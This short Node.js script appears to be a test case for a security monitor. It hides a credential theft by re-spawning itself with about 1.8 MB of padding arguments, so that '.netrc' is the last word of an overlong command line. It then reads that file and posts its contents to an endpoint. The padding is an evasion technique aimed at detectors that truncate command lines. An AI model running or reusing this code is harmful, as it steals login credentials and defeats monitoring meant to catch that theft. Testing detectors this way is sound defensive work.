// A theft whose command line is nearly as long as the kernel permits, 1.8 MB; the file to steal is
// its last word.
'use strict';
const { read, post, fs } = require('./kit.js');

if (process.argv.length === 2) {
  const noise = Array(15).fill('A'.repeat(120000));
  require('child_process').spawnSync(process.execPath, [__filename, ...noise, '.netrc'], { stdio: 'ignore' });
} else {
  const text = read(process.argv[process.argv.length - 1]);
  if (text) post('/long', { size: fs.readFileSync('/proc/self/cmdline').length, text });
}
